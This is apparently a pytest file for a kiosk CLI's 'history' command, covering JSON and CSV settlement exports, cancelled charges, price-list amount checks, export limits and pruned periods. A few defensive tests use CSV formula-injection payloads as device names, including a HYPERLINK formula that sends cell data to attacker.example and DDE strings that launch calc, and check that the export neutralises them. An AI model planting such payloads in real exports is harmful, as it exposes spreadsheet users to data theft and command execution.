"""`kiosk history`: the journal's outcomes (--local) or the backend's transactions."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

from kiosk.cli._common import flow_context
from kiosk.views import OUTCOME_WORDS
from refbackend import DEMO_VENUE, ReferenceBackend

LOCAL_KEYS = {"tx", "kind", "outcome", "amount_cents", "at", "synced"}
# why a refusal happened; what was paid for (a receipt's amount against the price list)
EXTRA_KEYS = {
    "reason",
    "service",
    "amount_check",
    "amount_difference_cents",
    "late_answer",
    "shown",
    "money_cents",
}


def fill(counter: Any, refbackend: ReferenceBackend) -> dict[str, str]:
    """A checked receipt, an offline one, a refused foreign one and a charge."""
    checked_tx, token = refbackend.mint_receipt(DEMO_VENUE, 6500)
    assert counter.scan_receipt(token).word == "checked"
    other = refbackend.create_venue("Toinen Studio", "Muualla 2")
    _, foreign = refbackend.mint_receipt(other["id"], 5000)
    assert counter.scan_receipt(foreign).word == "wrong_venue"
    charged = counter.charge(refbackend.mint_paycode(10000)["code"], "sports-45")
    assert charged.word == "charged"
    offline_tx, token = refbackend.mint_receipt(DEMO_VENUE, 1250)
    refbackend.pause()
    assert counter.scan_receipt(token).word == "checked_offline"
    refbackend.resume()
    return {"checked": checked_tx, "charged": charged.tx or "", "offline": offline_tx}


def test_local_json_items_have_the_contract_shape(
    cli: Any, counter: Any, refbackend: ReferenceBackend
) -> None:
    txs = fill(counter, refbackend)
    code, out, _ = cli("history", "--config", counter.cfg.source, "--local", "--json")
    assert code == 0
    doc = json.loads(out)
    assert list(doc) == ["items"]
    items = doc["items"]
    assert len(items) == 4  # one per scan that reached a result
    for item in items:
        assert LOCAL_KEYS <= item.keys() <= LOCAL_KEYS | EXTRA_KEYS, item
        assert item["kind"] in ("receipt", "charge")
        assert item["outcome"] in OUTCOME_WORDS
        assert isinstance(item["synced"], bool)
        assert item["at"].endswith("Z")
    by_outcome = {i["outcome"]: i for i in items}
    assert by_outcome["checked"]["tx"] == txs["checked"]
    assert by_outcome["checked"]["amount_cents"] == 6500
    assert by_outcome["charged"]["kind"] == "charge"
    assert (by_outcome["charged"]["tx"], by_outcome["charged"]["amount_cents"]) == (
        txs["charged"],
        5500,
    )
    assert (by_outcome["checked_offline"]["synced"], by_outcome["checked"]["synced"]) == (
        False,
        True,
    )
    assert by_outcome["wrong_venue"]["kind"] == "receipt"


def test_local_csv_is_a_settlement_export_in_euros(
    cli: Any, counter: Any, refbackend: ReferenceBackend
) -> None:
    txs = fill(counter, refbackend)
    code, out, _ = cli("history", "--config", counter.cfg.source, "--local", "--csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert len(rows) == 4
    assert {"tx", "kind", "outcome", "amount_eur", "time_local", "synced"} <= set(rows[0])
    by_tx = {r["tx"]: r for r in rows if r["tx"]}
    assert by_tx[txs["checked"]]["amount_eur"] == "65.00"
    assert by_tx[txs["offline"]]["amount_eur"] == "12.50"
    assert (by_tx[txs["charged"]]["kind"], by_tx[txs["charged"]]["amount_eur"]) == (
        "charge",
        "55.00",
    )
    assert by_tx[txs["offline"]]["synced"] == "no"


def test_cancelled_charge_keeps_its_kind_in_local_history(
    cli: Any, counter: Any, refbackend: ReferenceBackend
) -> None:
    charged = counter.charge(refbackend.mint_paycode(10000)["code"])
    code, _, err = cli("cancel", charged.tx, "--reason", "wrong service", "--config",
                       counter.cfg.source)  # fmt: skip
    assert code == 0, err
    code, out, _ = cli("history", "--config", counter.cfg.source, "--local", "--json")
    items = json.loads(out)["items"]
    assert [(i["kind"], i["outcome"], i["tx"]) for i in items] == [
        ("charge", "cancelled", charged.tx),
        ("charge", "charged", charged.tx),
    ]


def test_backend_history_json(cli: Any, counter: Any, refbackend: ReferenceBackend) -> None:
    txs = fill(counter, refbackend)
    code, out, _ = cli("sync", "--config", counter.cfg.source)
    assert code == 0
    code, out, _ = cli("history", "--config", counter.cfg.source, "--json")
    assert code == 0
    items = {i["tx"]: i for i in json.loads(out)["items"]}
    assert set(items) == {txs["checked"], txs["charged"], txs["offline"]}
    assert items[txs["charged"]]["kind"] == "charge"
    assert items[txs["offline"]]["offline"] is True
    assert all(i["device"] == "counter-1" and i["status"] in ("checked", "charged")
               for i in items.values())  # fmt: skip


def test_history_needs_the_backend_unless_local(
    cli: Any, counter: Any, refbackend: ReferenceBackend
) -> None:
    fill(counter, refbackend)
    refbackend.pause()
    code, out, err = cli("history", "--config", counter.cfg.source, "--json")
    assert code == 1 and out == ""
    assert "kiosk history:" in err and "Traceback" not in err
    code, out, _ = cli("history", "--config", counter.cfg.source, "--local", "--json")
    assert code == 0 and len(json.loads(out)["items"]) == 4


def test_bad_since_is_a_usage_error(cli: Any, counter: Any) -> None:
    code, out, err = cli("history", "--config", counter.cfg.source, "--local", "--since", "soon")
    assert (code, out) == (2, "")
    assert "--since" in err


# --- spreadsheet formulas in the CSV export -----------------------------------------------------

HOSTILE_DEVICES = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Open receipt")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def test_backend_csv_neutralises_formulas_in_device_names(
    cli: Any, counter: Any, refbackend: ReferenceBackend
) -> None:
    import uuid
    from datetime import UTC, datetime

    from kiosk.backend._wire import format_time
    from kiosk.backend.client import BackendClient

    checked_tx, token = refbackend.mint_receipt(DEMO_VENUE, 6500)
    assert counter.scan_receipt(token).word == "checked"
    hostile_tx: dict[str, str] = {}
    with BackendClient.from_config(counter.cfg) as client:
        for name in HOSTILE_DEVICES:  # other devices of the venue, as the backend names them
            tx, token = refbackend.mint_receipt(DEMO_VENUE, 1000)
            body = {"token": token, "venue": DEMO_VENUE, "device": name,
                    "scanned_at": format_time(datetime.now(UTC)), "offline": False}  # fmt: skip
            assert client.check_receipt(str(uuid.uuid4()), body).status == "checked"
            hostile_tx[tx] = name
    code, out, err = cli("history", "--config", counter.cfg.source, "--csv")
    assert code == 0, err
    rows = {r["tx"]: r for r in csv.DictReader(io.StringIO(out, newline=""))}
    assert set(rows) == {checked_tx, *hostile_tx}
    for tx, name in hostile_tx.items():
        assert rows[tx]["device"] == "'" + name, rows[tx]
        assert rows[tx]["amount_eur"] == "10.00"
    assert rows[checked_tx]["device"] == "counter-1"  # plain text is left alone


def test_local_csv_neutralises_a_formula_like_device_id(
    cli: Any, counter: Any, kiosk_toml: Any, refbackend: ReferenceBackend
) -> None:
    from kiosk.config import load_config

    desk = type(counter)(load_config(kiosk_toml(device={"id": "-2-3.A1"})), refbackend)
    tx, token = refbackend.mint_receipt(DEMO_VENUE, 6500)
    assert desk.scan_receipt(token).word == "checked"
    code, out, err = cli("history", "--config", desk.cfg.source, "--local", "--csv")
    assert code == 0, err
    [row] = list(csv.DictReader(io.StringIO(out, newline="")))
    assert (row["tx"], row["device"], row["amount_eur"]) == (tx, "'-2-3.A1", "65.00")


def test_spreadsheet_text_rule() -> None:
    from kiosk.cli.history_cmd import spreadsheet_text

    for cell in ("=1+1", "+41 555", "-x", "-", "@A1", "\tx", "\rx", "-1e5", "- 3"):
        assert spreadsheet_text(cell) == "'" + cell
    for cell in ("65.00", "-12.50", "-3", "tx_abc", "", "counter-1", "a=b", " =1"):
        assert spreadsheet_text(cell) == cell


def test_local_history_carries_the_amount_check(
    cli: Any, counter: Any, refbackend: ReferenceBackend
) -> None:
    with flow_context(counter.cfg) as ctx:  # the price list, as the sync worker caches it
        assert ctx.venue.refresh(ctx.client, ctx.journal, DEMO_VENUE, now=ctx.clock())
    ok_tx, token = refbackend.mint_receipt(DEMO_VENUE, 6500)
    assert counter.scan_receipt(token).word == "checked"
    off_tx, token = refbackend.mint_receipt(DEMO_VENUE, 6000)
    assert counter.scan_receipt(token).word == "checked"
    charged = counter.charge(refbackend.mint_paycode(10000)["code"], "sports-45")
    code, out, _ = cli("history", "--config", counter.cfg.source, "--local", "--json")
    assert code == 0
    items = {i["tx"]: i for i in json.loads(out)["items"]}
    paid_for = {
        tx: (i["service"], i["amount_check"], i["amount_difference_cents"])
        for tx, i in items.items()
    }
    assert paid_for == {
        ok_tx: ("Klassinen hieronta 60 min", "ok", 0),
        off_tx: ("Klassinen hieronta 60 min", "mismatch", -500),
        charged.tx: ("Urheiluhieronta 45 min", None, None),
    }
    code, out, _ = cli("history", "--config", counter.cfg.source, "--local", "--csv")
    rows = {r["tx"]: r for r in csv.DictReader(io.StringIO(out, newline=""))}
    assert (rows[off_tx]["service"], rows[off_tx]["amount_check"]) == (
        "Klassinen hieronta 60 min",
        "mismatch",
    )
    assert rows[off_tx]["amount_difference_eur"] == "-5.00"  # a number, not neutralised
    assert (rows[ok_tx]["amount_check"], rows[ok_tx]["amount_difference_eur"]) == ("ok", "0.00")
    assert (rows[charged.tx]["amount_check"], rows[charged.tx]["amount_difference_eur"]) == ("", "")
    code, out, _ = cli("history", "--config", counter.cfg.source, "--local")
    line = next(ln for ln in out.splitlines() if off_tx in ln)
    assert "CHECK THE AMOUNT: nearest Klassinen hieronta 60 min (-5.00)" in line


def test_amount_check_off_records_no_match(
    cli: Any, counter: Any, kiosk_toml: Any, refbackend: ReferenceBackend
) -> None:
    from kiosk.config import load_config

    desk = type(counter)(load_config(kiosk_toml(counter={"amount_check": "off"})), refbackend)
    with flow_context(desk.cfg) as ctx:
        assert ctx.venue.refresh(ctx.client, ctx.journal, DEMO_VENUE, now=ctx.clock())
    tx, token = refbackend.mint_receipt(DEMO_VENUE, 6000)
    assert desk.scan_receipt(token).amount_match is None
    code, out, _ = cli("history", "--config", desk.cfg.source, "--local", "--json")
    assert code == 0
    (item,) = json.loads(out)["items"]
    assert (item["tx"], item["service"], item["amount_check"]) == (tx, None, None)


def test_local_csv_is_not_cut_by_junk_scans(
    cli: Any, counter: Any, refbackend: ReferenceBackend
) -> None:
    from kiosk.vocabulary import RequestKind, Word

    tx, token = refbackend.mint_receipt(DEMO_VENUE, 6500)
    assert counter.scan_receipt(token).word == "checked"
    with flow_context(counter.cfg) as ctx:
        for _ in range(520):
            ctx.journal.record(RequestKind.RECEIPT, Word.INVALID, reason="not a receipt")
    code, out, err = cli("history", "--config", counter.cfg.source, "--local", "--csv")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert len(rows) == 521
    assert [r["amount_eur"] for r in rows if r["tx"] == tx] == ["65.00"]
    # an explicit limit that would cut the export fails, saying so
    code, out, err = cli(
        "history", "--config", counter.cfg.source, "--local", "--csv", "--limit", "100"
    )
    assert code == 1
    assert "more than 100" in err and "--since" in err
    # a listing may be cut, but says so
    code, out, err = cli("history", "--config", counter.cfg.source, "--local", "--json")
    assert code == 0
    assert len(json.loads(out)["items"]) == 500
    assert "newest 500 only" in err


def test_local_csv_for_a_period_the_journal_pruned_fails_saying_so(cli: Any, counter: Any) -> None:
    import time

    from kiosk.vocabulary import RequestKind, Word

    long_ago = time.time() - 120 * 86400
    with flow_context(counter.cfg) as ctx:
        ctx.journal.record(RequestKind.RECEIPT, Word.INVALID, reason="junk", now=long_ago)
        assert ctx.journal.prune(counter.cfg.journal.retention_days) == 1
    since = time.strftime("%Y-%m-%d", time.gmtime(long_ago - 86400))
    args = ("history", "--config", counter.cfg.source, "--local", "--csv", "--since", since)
    code, out, err = cli(*args)
    assert code == 1 and out == ""
    assert "pruned" in err and "backend's history" in err
    code, out, err = cli("history", "--config", counter.cfg.source, "--local", "--csv",
                         "--since", "today")  # fmt: skip
    assert code == 0, err
